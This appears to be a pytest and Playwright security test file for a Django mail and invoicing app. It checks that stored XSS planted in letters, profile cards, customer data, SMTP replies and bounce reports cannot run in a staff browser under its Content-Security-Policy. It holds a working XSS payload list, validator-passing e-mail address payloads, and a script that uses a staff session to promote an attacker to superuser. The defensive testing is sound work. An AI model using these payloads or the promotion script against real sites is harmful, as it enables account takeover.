"""Attacks (issue 11): no script planted in user-written or outside text runs in a staff user's
real browser, and no page of the access matrix breaks under the Content-Security-Policy.

The attacker's goal, as the issue found it on main: a script in a letter, a card field, a
customer's ERP data, an SMTP server's reply or a bounce runs when a staff user opens the page
that shows it, and posts the admin's user form to make its author staff and superuser.

The payloads (`PAYLOADS`) are planted through the doors the attacker has: the letter form and
the card form as an ordinary user (where a form accepts them; the model otherwise, as data
stored before a validator existed), the customer model (ERP import), a real send through the
worker to a server that answers with them, and a real VERP-signed DSN through `bounce_ingest`.
Then a superuser logs into Chromium and opens every page showing that data.

An execution is seen two ways, independent of each other: every payload pushes its id onto
`window.__xss` (read back after the page settled) and fetches `/x/<id>` from a counting HTTP
listener on 127.0.0.1 (which also serves the `<script src>` variant's file). Afterwards the
attackers must still be neither staff nor superuser. The controls show the detector working:
the same payloads served raw by the listener's own page (no policy) do run and are counted, and
the exploit run in a staff page with the policy bypassed does make its author a superuser.

What this asserts is the outcome only (nothing runs), not how a page renders the text: the
letter engine and its escaping change on their own (issue 11, item 1). The policy alone must
already stop a script that a page forgot to escape: a test-only page (`UNESCAPED`) prints every
planted text raw in the site's layout, so the policy stays under test however well the real
pages escape.
"""

from __future__ import annotations

import contextlib
import re
import smtplib
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import unquote

import pytest
from aiosmtpd.controller import Controller
from django.contrib.auth import SESSION_KEY
from django.http import HttpRequest, HttpResponse
from django.template import engines
from django.test import Client
from django.urls import include, path
from playwright.sync_api import Error as PlaywrightError

from accounts.models import User
from bounces.models import InboundMail
from bounces.services import bounce_ingest
from invoices.models import Customer, Letter
from outbox.catcher import CatcherHandler
from outbox.models import Event, MessageState, OutgoingMessage
from outbox.services import outbox_enqueue
from smtp_settings.models import SenderMode
from tests import factories
from tests.invoices import factories as invoice_factories
from tests.reliability.test_access import ACTORS, _build_world, all_routes, expectation, url_of
from tests.smtp_fixtures import free_port

pytestmark = [
    pytest.mark.browser,
    pytest.mark.usefixtures("english"),
    pytest.mark.filterwarnings("ignore:No directory at:UserWarning"),
]

TIMEOUT_MS = 10_000
SETTLE_MS = 250  # image errors and deferred scripts fire just after "load"


# -- the counting listener ----------------------------------------------------------------------
class Listener:
    """A small HTTP server on 127.0.0.1: counts `/x/<id>` hits, serves `/s/<id>.js` (the
    `<script src>` payload's file) and `/page/<n>` (a control page of raw payloads, no CSP)."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        self.pages: dict[str, tuple[str, dict[str, str]]] = {}
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                path = self.path.split("?")[0]
                body, kind, headers = b"", "text/plain", {}
                if path.startswith("/x/"):
                    listener.hits.append(unquote(path[3:]))
                elif path.startswith("/s/") and path.endswith(".js"):
                    body, kind = listener.js(unquote(path[3:-3])).encode(), "text/javascript"
                elif path in listener.pages:
                    html, headers = listener.pages[path]
                    body, kind = html.encode(), "text/html; charset=utf-8"
                self.send_response(200)
                self.send_header("Content-Type", kind)
                self.send_header("Access-Control-Allow-Origin", "*")
                for name, value in headers.items():
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_port}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def js(self, payload_id: str) -> str:
        """What every payload runs: a flag in the page and a request here. No space, quote or
        brace, so it fits an unquoted attribute and a quoted e-mail local part."""
        return (
            f"(window.__xss=window.__xss||[]).push('{payload_id}');"
            f"fetch('{self.base}/x/{payload_id}')"
        )

    def serve(self, path: str, html: str, headers: dict[str, str] | None = None) -> str:
        self.pages[path] = (html, headers or {})
        return self.base + path

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener():
    made = Listener()
    yield made
    made.close()


# -- the payloads --------------------------------------------------------------------------------
# name → (template, runs when the text lands raw in an HTML body). "{js}" is the detector's
# code, "{id}" the payload's id, "{base}" the listener. Encoded variants run only if something
# decodes them once too often; javascript: only as a link that is clicked (every such link is).
PAYLOADS: dict[str, tuple[str, bool]] = {
    "script": ("<script>{js}</script>", True),
    "img": ('<img src=x onerror="{js}">', True),
    "svg": ('"><svg onload="{js}">', True),
    "svg1": ("'><svg/onload={js}>", True),
    "textarea": ("</textarea><script>{js}</script>", True),
    "title": ("</title><script>{js}</script>", True),
    "src": ('<script src="{base}/s/{id}.js"></script>', True),
    "iframe": ('<iframe srcdoc="<script>{js}</script>"></iframe>', True),
    "link": ('<a href="javascript:{js}">x</a>', True),
    "js-url": ("javascript:{js}", False),
    "entity": ("&lt;script&gt;{js}&lt;/script&gt;", False),
    "numeric": ("&#60;img src=x onerror={js}&#62;", False),
    "percent": ("%3Cscript%3E{js}%3C/script%3E", False),
    "unicode": ("\\u003cscript\\u003e{js}\\u003c/script\\u003e", False),
}
# An address Django's EmailValidator accepts (a quoted local part may hold <, >, = and quotes):
# the card's e-mail, BCC and Reply-To and a customer's addresses go through it.
EMAIL_PAYLOADS = {
    "mail-img": '"<img/src=x/onerror={js}>"@evil.example',
    "mail-svg": '"<svg/onload={js}>"@evil.example',
    "mail-script": '"<script>{js}</script>"@evil.example',
}


def payload(listener: Listener, place: str, name: str) -> str:
    template = PAYLOADS[name][0] if name in PAYLOADS else EMAIL_PAYLOADS[name]
    payload_id = f"{place}.{name}"
    return (
        template.replace("{js}", listener.js(payload_id))
        .replace("{id}", payload_id)
        .replace("{base}", listener.base)
    )


def all_payloads(listener: Listener, place: str) -> str:
    return "\n".join(payload(listener, place, name) for name in PAYLOADS)


def exploit(target: User) -> str:
    """The issue's exploit: fetch the admin's change form for `target`, tick staff and
    superuser, post it back (the staff user's session and CSRF token do the rest)."""
    url = f"/admin/accounts/user/{target.pk}/change/"
    return (
        f"fetch('{url}').then(r=>r.text()).then(h=>{{"
        "const d=new DOMParser().parseFromString(h,'text/html');"
        "const b=new FormData(d.getElementById('user_form'));"
        "b.set('is_staff','on');b.set('is_superuser','on');b.set('_save','1');"
        f"return fetch('{url}',{{method:'POST',body:b}});}})"
    )


# -- the browser -------------------------------------------------------------------------------
def _session_cookie(user: User | None, base_url: str) -> list[dict]:
    if user is None:
        return []
    client = Client()
    client.force_login(user)
    assert client.session[SESSION_KEY] == str(user.pk)
    return [{"name": "sessionid", "value": client.cookies["sessionid"].value, "url": base_url}]


def _context(chromium, user: User | None, base_url: str):
    context = chromium.new_context(locale="en-US", viewport={"width": 1280, "height": 900})
    context.set_default_timeout(TIMEOUT_MS)
    context.add_cookies(_session_cookie(user, base_url))
    return context


FIND_JS_LINKS = """() => [...document.querySelectorAll('a[href], area[href]')]
    .filter(a => a.getAttribute('href').trim().toLowerCase().startsWith('javascript:'))
    .map((a, i) => { a.setAttribute('data-js-link', String(i)); return String(i); })"""


def _visit(page, url: str) -> list[str]:
    """Open `url`, click every javascript: link in it, return the ids in window.__xss."""
    page.goto(url, wait_until="load")
    page.wait_for_timeout(SETTLE_MS)
    for mark in page.evaluate(FIND_JS_LINKS):
        link = page.locator(f'[data-js-link="{mark}"]')
        if link.is_visible():
            link.click(no_wait_after=True)
    page.wait_for_timeout(SETTLE_MS)
    seen = page.evaluate("() => window.__xss || []")
    for frame in page.frames[1:]:
        with contextlib.suppress(PlaywrightError):  # a frame gone: nothing to read there
            seen += frame.evaluate("() => window.__xss || []")
    return seen


# -- planting ----------------------------------------------------------------------------------
def _wait_final(message: OutgoingMessage, timeout: float = 20.0) -> OutgoingMessage:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        message.refresh_from_db()
        if message.is_final:
            return message
        time.sleep(0.1)
    raise AssertionError(f"message {message.pk} still {message.state} after {timeout} s")


def dsn(message: OutgoingMessage, diagnostic: str, subject: str) -> bytes:
    """A Postfix-style RFC 3464 report for `message`, its diagnostic and subject the
    attacker's (a remote server they run writes the Diagnostic-Code)."""
    recipient = message.to[0]
    text = f"""\
From: MAILER-DAEMON@mx.test (Mail Delivery System)
To: {message.envelope_from}
Subject: {subject}
Message-ID: <dsn-xss@mx.test>
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="B"

--B
Content-Type: text/plain

{diagnostic}

--B
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.test

Final-Recipient: rfc822; {recipient}
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.evil.example
Diagnostic-Code: smtp; 550 5.1.1 {diagnostic}

--B
Content-Type: text/rfc822-headers

Message-ID: {message.message_id}
Subject: {message.subject}

--B--
"""
    return text.replace("\n", "\r\n").encode()


def _plant(listener: Listener, smtp_servers, tmp_path) -> dict:
    """Every door the attackers have, each given payloads; returns what the pages show."""
    p = lambda place, name: payload(listener, place, name)  # noqa: E731
    server = smtp_servers.starttls_optional  # not the relay (plain): no other mail meets its script
    factories.company()

    # An ordinary user with their own server (the attacker runs it: not the relay).
    evil = invoice_factories.smtp_sender("EVIL", server)

    # The attacker's server answers with payloads: a refusal (an Event) and an acceptance (the
    # message's reply), each on a real send through the worker.
    lines = [p("smtp-refusal", name) for name in ("script", "img", "svg", "title", "src")]
    server.script("RCPT", "\r\n".join(f"550-5.1.1 {line}" for line in lines) + "\r\n550 5.1.1 no")
    refused = _wait_final(
        outbox_enqueue(
            user=evil,
            to=["victim@customer.example"],
            subject=p("message-subject", "script"),
            body_text=all_payloads(listener, "message-body"),
        )
    )
    assert refused.state == MessageState.FAILED, refused.last_reply
    server.script("AFTER_DATA", f"250 2.0.0 {p('smtp-accepted', 'img')}")
    accepted = _wait_final(
        outbox_enqueue(
            user=evil,
            to=["victim@customer.example"],
            subject=p("message2-subject", "svg"),
            body_text="x",
        )
    )
    assert accepted.state == MessageState.SENT, accepted.last_reply

    # A bounce of a Reply-To mail, signed VERP and all, its diagnostic the attacker's.
    replier = factories.user("EVILR", email="evilr@evil.example")
    factories.profile(replier, mode=SenderMode.REPLY_TO)
    bounced = _wait_final(
        outbox_enqueue(
            user=replier,
            to=["victim@customer.example"],
            subject="Invoice",
            body_text="x",
        )
    )
    assert bounced.state == MessageState.SENT, bounced.last_reply
    diagnostic = " ".join(p("bounce", name) for name in ("script", "img", "svg", "textarea"))
    bounce_ingest(
        raw=dsn(bounced, diagnostic, p("bounce-subject", "img")),
        source="test",
        envelope_recipients=[bounced.envelope_from],
    )
    assert Event.objects.filter(message=bounced, reply__contains="bounce.script").exists(), (
        "the bounce was not recorded: its diagnostic would reach no page"
    )

    # The attacker's card, through the card form.
    client = Client()
    client.force_login(evil)
    card = {
        "name": p("card-name", "svg"),
        "office_phone": "",
        "phone": "",
        "email": p("card-email", "mail-svg"),
        "bcc": p("card-bcc", "mail-img"),
        "reply_to": p("card-replyto", "mail-script"),
        "signature": all_payloads(listener, "card-signature") + "\n" + exploit(evil),
        "mode": "smtp",
        "server": f"{server.host}:{server.port}",
        "security": "none",
        "login": "",
        "password": "",
    }
    client.post("/accounts/card/", card)
    evil.refresh_from_db()
    stored = {k: v for k, v in card.items() if k in ("name", "email", "bcc", "reply_to")}
    # What a form refused (a validator added later) is set as data stored before it.
    User.objects.filter(pk=evil.pk).update(
        signature=card["signature"],
        **{k: v for k, v in stored.items() if getattr(evil, k) != v},
    )

    # Letters, as any user: through the form, and one stored as it is.
    subject = p("letter-subject", "title")
    body = (
        all_payloads(listener, "letter-body")
        + "\n{{ customer.name }}\n{{ customer.address }}\n{{ customer.emails }}\n"
        + f"<script>{exploit(evil)}</script>"
    )
    client.post("/letters/new/", {"subject": subject, "body": body})
    letter = Letter.objects.filter(created_by=evil).first() or Letter.objects.create(
        subject=subject, body=body, created_by=evil
    )
    stored_letter = Letter.objects.create(
        subject=p("letter2-subject", "script"), body=body, created_by=evil
    )

    # Customers from the ERP: every field the pages show.
    customers = [
        invoice_factories.customer(
            p(f"customer{i}-name", name)[:200],
            emails=[p(f"customer{i}-email", "mail-img"), p(f"customer{i}-email2", "mail-svg")],
            address=all_payloads(listener, f"customer{i}-address"),
        )
        for i, name in enumerate(("script", "img", "svg", "textarea", "src"))
    ]
    invoice = invoice_factories.invoice(customer=customers[0])

    # What the relay sent, as the local mail catcher of `make run` shows it (DEBUG only).
    catcher_dir = tmp_path / "mail"
    catcher_dir.mkdir()
    catcher = Controller(CatcherHandler(catcher_dir), hostname="127.0.0.1", port=free_port())
    catcher.start()
    try:
        raw = (
            # A quoted display name survives the parse whole (an unquoted one is mangled).
            f'From: "{p("catcher-from", "script")}" <evil@evil.example>\r\n'
            "To: victim@customer.example\r\n"
            f"Reply-To: {p('catcher-replyto', 'mail-img')}\r\n"
            f"Subject: {p('catcher-subject', 'script')}\r\n"
            "Content-Type: text/plain; charset=utf-8\r\n\r\n"
            + all_payloads(listener, "catcher-body").replace("\n", "\r\n")
            + "\r\n"
        )
        with smtplib.SMTP(catcher.hostname, catcher.port) as smtp:
            smtp.sendmail("evil@evil.example", ["victim@customer.example"], raw.encode())
    finally:
        catcher.stop()

    return {
        "attackers": [evil, replier],
        "letters": [letter, stored_letter],
        "customers": customers,
        "invoice": invoice,
        "messages": [refused, accepted, bounced],
        "catcher_dir": catcher_dir,
    }


def _staff_pages(planted: dict) -> list[str]:
    evil = planted["attackers"][0]
    customer = planted["customers"][0]
    pages = ["/letters/", "/invoices/", f"/invoices/?customer={customer.pk}", "/events/", "/jobs/"]
    for letter in planted["letters"]:
        pages += [f"/letters/{letter.pk}/edit/"]
        pages += [f"/letters/{letter.pk}/?customer={c.pk}" for c in planted["customers"]]
    pages += [f"/outbox/{message.pk}/" for message in planted["messages"]]
    pages += [f"/accounts/card/{user.code}/" for user in planted["attackers"]]
    pages += [
        "/admin/accounts/user/",
        "/admin/accounts/user/?q=EVIL",
        f"/admin/accounts/user/{evil.pk}/change/",
        "/admin/invoices/customer/",
        f"/admin/invoices/customer/{customer.pk}/change/",
        "/admin/invoices/letter/",
        f"/admin/invoices/invoice/{planted['invoice'].pk}/change/",
        "/admin/invoices/invoice/",
        "/admin/smtp_settings/senderprofile/",
    ]
    pages += [f"/admin/invoices/letter/{letter.pk}/change/" for letter in planted["letters"]]
    pages += [f"/admin/smtp_settings/senderprofile/{evil.sender_profile.pk}/change/"]
    # Staff's outbox and inbound mail (issue 12): subjects, replies, Events and raw bounces.
    pages += ["/staff/outbox/", "/staff/inbound/", "/admin/outbox/outgoingmessage/"]
    pages += ["/admin/outbox/event/", "/admin/bounces/inboundmail/"]
    pages += [f"/staff/outbox/{message.pk}/" for message in planted["messages"]]
    pages += [f"/admin/outbox/outgoingmessage/{m.pk}/change/" for m in planted["messages"]]
    for mail in InboundMail.objects.all():
        pages += [f"/staff/inbound/{mail.pk}/", f"/admin/bounces/inboundmail/{mail.pk}/change/"]
    return pages


# Every door's text must be on some page the staff user opened (escaped or not), or that door
# was not put to the test.
REACHES_A_PAGE = [
    "card-name",
    "card-email",
    "card-bcc",
    "card-replyto",
    "card-signature",
    "letter-subject",
    "letter2-subject",
    "letter-body",
    "customer0-name",
    "customer4-name",
    "customer0-address",
    "customer0-email",
    "message-subject",
    "smtp-refusal",
    "smtp-accepted",
    "bounce",
    "catcher-from",
    "catcher-subject",
    "catcher-body",
]


# A page that forgets to escape, as the letter preview did before issue 11: every planted text
# printed raw in the site's own layout, under its policy. Whatever the pages' escaping becomes,
# this one keeps the policy itself under test. The test points ROOT_URLCONF at this module.
def _unescaped(request: HttpRequest) -> HttpResponse:
    texts = [f"{u.name}{u.signature}{u.email}{u.bcc}{u.reply_to}" for u in User.objects.all()]
    texts += [f"{x.subject}{x.body}" for x in Letter.objects.all()]
    texts += [f"{c.name}{c.address}{' '.join(c.emails)}" for c in Customer.objects.all()]
    texts += [f"{m.subject}{m.last_reply}" for m in OutgoingMessage.objects.all()]
    texts += [e.reply for e in Event.objects.all()]
    page = engines["django"].from_string(
        '{% extends "base.html" %}{% block content %}'
        "{% for text in texts %}<div>{{ text|safe }}</div>{% endfor %}{% endblock %}"
    )
    return HttpResponse(page.render({"texts": texts}, request))


UNESCAPED = "/test-unescaped/"
urlpatterns = [path(UNESCAPED.strip("/") + "/", _unescaped), path("", include("directo_mail.urls"))]


def _privileged(users: list[User]) -> list[str]:
    return [
        u.code
        for u in User.objects.filter(pk__in=[u.pk for u in users])
        if u.is_staff or u.is_superuser
    ]


@pytest.mark.csp_violations_expected  # the planted payloads are refused: that is the point
@pytest.mark.usefixtures("celery_worker", "transactional_db")
def test_no_script_from_user_written_text_runs_in_a_staff_browser(
    chromium, live_server, smtp_servers, listener, settings, tmp_path, figures
):
    planted = _plant(listener, smtp_servers, tmp_path)
    staff = factories.user("ROOT", is_staff=True, is_superuser=True)
    settings.ROOT_URLCONF = __name__  # the app's URLs and the page that forgets to escape
    pages = [UNESCAPED, *_staff_pages(planted)]

    executed: dict[str, list[str]] = {}
    statuses: dict[str, int] = {}
    html = ""
    context = _context(chromium, staff, live_server.url)
    try:
        page = context.new_page()
        for path in pages:
            response = page.goto(live_server.url + path)
            statuses[path] = response.status if response else 0
            if seen := _visit(page, live_server.url + path):
                executed[path] = seen
            html += page.content()
        # The mail catcher exists with DEBUG on only (make run).
        settings.DEBUG, settings.MAIL_CATCHER_DIR = True, planted["catcher_dir"]
        try:
            if seen := _visit(page, live_server.url + "/dev/mail/"):
                executed["/dev/mail/"] = seen
            html += page.content()
        finally:
            settings.DEBUG = False
        page.wait_for_timeout(SETTLE_MS)
    finally:
        context.close()

    # The pages did show the planted text (a blank page would prove nothing).
    broken = {path: status for path, status in statuses.items() if status != 200}
    assert not broken, broken
    unseen = [place for place in REACHES_A_PAGE if f"{place}." not in html]
    assert not unseen, f"planted text that no page showed (nothing tested there): {unseen}"
    blocked = chromium.csp.count()

    hits = sorted(set(listener.hits))
    runs = sorted({run for seen in executed.values() for run in seen} | set(hits))
    promoted = _privileged(planted["attackers"])
    figures.add(
        "attacks",
        "scripts run in a staff user's real browser from user-written text "
        "(letters, card, customer data, server replies, bounces)",
        len(runs),
        "= 0",
    )
    figures.add(
        "attacks", "attackers made staff or superuser by a planted script", len(promoted), "= 0"
    )
    figures.add("attacks", "pages a staff user opened with planted payloads", len(pages) + 1)
    figures.add("attacks", "planted scripts the browser refused under the CSP", blocked)
    assert not runs, f"scripts ran: {runs} on {executed}; listener hits {hits}"
    assert not promoted, f"attackers became staff: {promoted}"
    # The page that forgets to escape did put them in as markup: the policy refused them.
    assert blocked > 0, "no payload reached a page as markup: the policy was not put to the test"


@pytest.mark.usefixtures("transactional_db")
def test_control_the_detector_sees_scripts_run_without_the_policy(
    chromium, live_server, listener, figures
):
    """The same payloads, served raw with no policy by the listener's own page, do run: the
    flag and the listener both see each one that HTML runs as it is."""
    html = "<!doctype html><title>raw</title><body>" + "\n".join(
        f"<div>{payload(listener, 'control', name)}</div>" for name in PAYLOADS
    )
    url = listener.serve("/page/raw", html)
    context = chromium.new_context()
    context.set_default_timeout(TIMEOUT_MS)
    try:
        page = context.new_page()
        seen = _visit(page, url)
        page.wait_for_timeout(SETTLE_MS)
    finally:
        context.close()
    expected = {f"control.{name}" for name, (_, runs) in PAYLOADS.items() if runs}
    # The srcdoc iframe's flag lives in the frame; the listener sees it either way.
    assert expected <= set(seen) | set(listener.hits), (expected, seen, listener.hits)
    assert expected <= set(listener.hits), (expected, listener.hits)
    assert not chromium.csp.violations()  # no policy there: nothing refused, all ran
    figures.add(
        "attacks", "control: raw payloads that ran with no policy (detector works)", len(expected)
    )


@pytest.mark.usefixtures("transactional_db")
def test_control_the_exploit_makes_its_author_superuser_when_a_script_runs(
    chromium, live_server, figures
):
    """The exploit itself works: run in a staff user's page with the policy out of the way
    (Playwright's evaluate is not subject to it), it does promote its author. So a planted copy
    that ran would be seen by the staff check."""
    attacker = factories.user("EVIL")
    staff = factories.user("ROOT", is_staff=True, is_superuser=True)
    context = _context(chromium, staff, live_server.url)
    try:
        page = context.new_page()
        page.goto(f"{live_server.url}/letters/")
        page.evaluate(f"() => {exploit(attacker)}")
        deadline = time.monotonic() + 10
        while not _privileged([attacker]) and time.monotonic() < deadline:
            page.wait_for_timeout(100)
    finally:
        context.close()
    assert _privileged([attacker]) == ["EVIL"]
    figures.add("attacks", "control: the exploit run without the policy promotes its author", 1)


# -- CSP on every page of the access matrix -----------------------------------------------------
REQUIRED = {
    "default-src": {"'self'"},
    "script-src": {"'self'"},
    "object-src": {"'none'"},
    "frame-ancestors": {"'none'"},
    "base-uri": {"'none'"},
}


def policy_problems(header: str | None) -> list[str]:
    """What is missing from or too loose in a Content-Security-Policy header."""
    if not header:
        return ["no Content-Security-Policy header"]
    directives = {}
    for part in header.split(";"):
        name, *values = part.split()
        directives[name.lower()] = set(values)
    problems = [
        f"{name} is {sorted(directives.get(name, set()))}, not {sorted(values)}"
        for name, values in REQUIRED.items()
        if directives.get(name) != values
    ]
    loose = re.compile(r"'unsafe-|\*|data:|https?:|'strict-dynamic'", re.I)
    for name in ("script-src", "style-src", "default-src", "object-src", "base-uri"):
        if any(loose.search(v) for v in directives.get(name, ())):
            problems.append(f"{name} allows {sorted(directives[name])}")
    return problems


def _first_allowed(route, expect) -> str | None:
    """The least privileged actor the matrix lets see the page (a 200); the superuser for the
    admin's pages (a staff user without model permissions meets 403 there)."""
    if route.name.startswith("admin:") and route.name != "admin:login":
        return "admin"
    for actor in ("anonymous", "A", "B", "staff", "admin"):
        if "200" in expect.get[actor].split("|"):
            return actor
    return None


@pytest.mark.usefixtures("transactional_db")
def test_every_page_of_the_access_matrix_has_the_policy_and_breaks_none_of_it(
    chromium, live_server, smtp_servers, m365_settings, listener, figures, caplog
):
    caplog.set_level("CRITICAL", logger="django.request")
    world = _build_world(smtp_servers)
    routes = all_routes()

    # The header on every response, each actor, status whatever it is.
    missing: list[str] = []
    responses = 0
    clients = {}
    for actor in ACTORS:
        clients[actor] = client = Client(raise_request_exception=False)
        if actor != "anonymous":
            client.force_login(world.users[actor])
    extra = [
        "/no-such-page/",
        "/admin/no-such-page/",
        "/settings/system/",
        "/accounts/card/NOBODY/",
    ]
    for actor, client in clients.items():
        for route in routes:
            url = url_of(route, expectation(route, world), world)
            for response in (client.get(url), client.post(url, {})):
                responses += 1
                if problems := policy_problems(response.get("Content-Security-Policy")):
                    missing.append(f"{actor} {url} {response.status_code}: {problems}")
        for url in extra:
            response = client.get(url)
            responses += 1
            if problems := policy_problems(response.get("Content-Security-Policy")):
                missing.append(f"{actor} {url} {response.status_code}: {problems}")
    csrf = Client(enforce_csrf_checks=True).post("/accounts/login/", {})
    assert csrf.status_code == 403
    if problems := policy_problems(csrf.get("Content-Security-Policy")):
        missing.append(f"CSRF failure page: {problems}")

    # Every page in Chromium, as the actor that may see it, and the error pages.
    visits: list[tuple[str, str]] = []
    for route in routes:
        expect = expectation(route, world)
        if route.name.startswith("anymail:") or route.name.endswith("logout"):
            continue  # ESP webhooks are no pages; a logout would end the visiting session
        if (actor := _first_allowed(route, expect)) is None:
            continue
        visits.append((actor, url_of(route, expect, world)))
    visits += [("anonymous", "/no-such-page/"), ("A", "/no-such-page/"), ("A", "/settings/system/")]
    visits += [("B", f"/jobs/{world.running_job.pk}/"), ("admin", "/admin/no-such-page/")]

    statuses: dict[int, int] = {}
    for actor in ACTORS:
        urls = [url for who, url in visits if who == actor]
        if not urls:
            continue
        context = _context(chromium, world.users.get(actor), live_server.url)
        try:
            page = context.new_page()
            for url in urls:
                try:
                    response = page.goto(live_server.url + url)
                    status = response.status if response else 0
                except PlaywrightError:  # an empty error response (405): no page to check
                    status = -1
                statuses[status] = statuses.get(status, 0) + 1
                page.wait_for_timeout(50)
            if actor == "A":  # a form posted without its CSRF token: Django's 403 page
                page.goto(live_server.url + "/letters/")
                page.locator("form.lang input[name=csrfmiddlewaretoken]").evaluate(
                    "input => input.remove()"
                )
                with page.expect_navigation() as navigation:
                    page.select_option("#language", "pl")  # static/js/language.js submits
                assert navigation.value.status == 403
                statuses[403] = statuses.get(403, 0) + 1
                assert page.locator("h1").inner_text() == "The form was not accepted"
        finally:
            context.close()

    violations = chromium.csp.count()
    report = chromium.csp.report()
    figures.add("attacks", "pages of the access matrix opened in Chromium", len(visits) + 1)
    figures.add("attacks", "CSP violations on every page of the access matrix", violations, "= 0")
    figures.add(
        "attacks", "responses checked for the CSP header (URLs × actors × methods)", responses
    )
    figures.add("attacks", "responses without a strict CSP header", len(missing), "= 0")
    assert violations == 0, report
    assert not missing, "\n".join(missing[:20])
    assert statuses.get(200, 0) > 50, statuses  # pages, not a wall of refusals
    # Control: the watcher sees violations on a page that has them, under this very policy.
    header = clients["A"].get("/letters/")["Content-Security-Policy"]
    url = listener.serve(
        "/page/inline",
        '<!doctype html><title>x</title><p style="color:red">x</p><script>1</script>',
        {"Content-Security-Policy": header},
    )
    context = chromium.new_context()
    try:
        page = context.new_page()
        page.goto(url)
        page.wait_for_timeout(SETTLE_MS)
    finally:
        context.close()
    assert chromium.csp.count() >= 2, chromium.csp.report()
    chromium.csp.clear()  # the control's own, expected violations
